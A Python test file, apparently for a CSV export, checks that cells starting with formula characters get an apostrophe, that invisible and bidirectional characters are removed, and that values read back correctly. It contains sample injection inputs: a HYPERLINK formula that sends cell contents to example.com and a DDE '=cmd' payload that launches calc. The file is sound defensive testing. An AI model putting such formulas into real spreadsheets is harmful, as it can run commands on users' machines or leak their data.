import csv
import io
import json
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rooms.api.csv import csv_text
from rooms.domain.shown_text import cleaned

DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001 (the wide ones)
FORMULA = '=HYPERLINK("http://example.com/?"&A1;"Ann")'

odd_text = st.text(
    st.sampled_from("ab ,;\"'\t\r\n=+-@\u00a0\ufeff") | st.characters(exclude_categories=["Cs"])
)


def text_of(*values: object) -> str:
    """The one row that holds these values, as a spreadsheet decodes it."""
    columns = [f"c{number}" for number in range(len(values))]
    return (
        csv_text(columns, [dict(zip(columns, values, strict=True))])
        .decode("utf-8-sig")
        .partition("\r\n")[2]
    )


def cells(*values: object, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(*values), newline=""), delimiter=separator))


def test_a_byte_order_mark_names_and_lines_that_end_as_rfc_4180_says() -> None:
    table = csv_text(
        ("name", "b"), [{"b": 1, "name": "é", "not": "shown"}, {"name": "漢字 \U0001f600", "b": 2}]
    )
    assert table == b"\xef\xbb\xbf" + "name,b\r\né,1\r\n漢字 \U0001f600,2\r\n".encode()


def test_without_rows_there_are_the_names() -> None:
    assert csv_text(("a", "b"), []) == b"\xef\xbb\xbfa,b\r\n"


def test_what_has_a_separator_or_a_quote_is_quoted() -> None:
    assert text_of("a,b", 'a"b', "a b") == '"a,b","a""b",a b\r\n'


def test_numbers_stay_numbers() -> None:
    assert text_of(0, 5, 1.5, -1, 0.0000001, 10**15) == "0,5,1.5,-1,1e-07,1000000000000000\r\n"


def test_truth_values_nothing_and_json() -> None:
    assert cells(True, False, None, "", {"é": [1, None]}, []) == [
        ["TRUE", "FALSE", "", "", '{"é": [1, null]}', "[]"]
    ]


@pytest.mark.parametrize(
    "start",
    [
        *DANGEROUS,
        *(f"{space}=" for space in (" ", "  ", '"', " " * 100, "\u2800", "\u3164" * 256)),
    ],
)
def test_what_a_program_may_run_begins_with_an_apostrophe(start: str) -> None:
    assert cells(f"{start}1") == [[f"'{start}1"]]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\t=1", "' =1"),
        ("\u00a0\u3000=1", "'  =1"),
        ("\0\ufeff\u200b\u202e=1", "'=1"),
        ("Ann\n=1", "Ann =1"),
        ("Dr. \u202enahK", "Dr. nahK"),
        ("\u2067Ann\u2069", "Ann"),
        ("“\u2068Ann\u2069” left", "“\u2068Ann\u2069” left"),
        ("\u2068=1\u2069", "'\u2068=1\u2069"),
    ],
)
def test_a_cell_is_one_line_without_invisible_signs(text: str, cell: str) -> None:
    assert cells(text) == [[cell]]


@pytest.mark.parametrize(
    "harmless",
    [
        "Ann",
        "a=b",
        "1+1",
        "a-b",
        "a@b.example",
        "8:acs:a_b",
        "2025-03-03T10:00:00+00:00",
        "a; b",
    ],
)
def test_what_is_harmless_is_left_as_it_is(harmless: str) -> None:
    assert cells(harmless) == [[harmless]]


def test_json_shows_what_nobody_sees_and_is_read_back() -> None:
    name = "Ann\u202e\U000e0041\u00a0é"
    ((cell,),) = cells([name])
    assert cell == '["Ann\\u202e\\udb40\\udc41\\u00a0é"]'
    assert json.loads(cell) == [name]


def is_dangerous(cell: str) -> bool:
    return re.match(r"[\s\ufeff]*[=+\-@]", cell) is not None


@given(st.lists(odd_text, min_size=2, max_size=4))
@example(["Ann", FORMULA])
@example(["Ann", f"Ann;{FORMULA};"])
@example(["Ann", "Ann;\"=cmd|'/C calc'!A0;"])
@example(["Ann", "Ann\n=1+1"])
@example(["Ann", "Ann\t=1+1"])
@example(["Ann", "a;;=1"])
def test_no_text_is_a_formula_whatever_the_program_takes_for_the_separator(
    texts: list[str],
) -> None:
    for separator in ",;":
        for row in cells(*texts, separator=separator):
            assert not any(map(is_dangerous, row)), row


@given(
    st.lists(
        st.one_of(odd_text, st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
        min_size=1,
        max_size=4,
    )
)
def test_it_is_read_back_but_for_the_apostrophes_and_what_nobody_sees(
    values: list[str | float],
) -> None:
    (row,) = cells(*values)
    for value, cell in zip(values, row, strict=True):
        if isinstance(value, str):
            assert cell.replace("'", "") == cleaned(value).replace("'", "")
            assert "'" in cell or cell == cleaned(value)
        else:
            assert type(value)(cell) == value
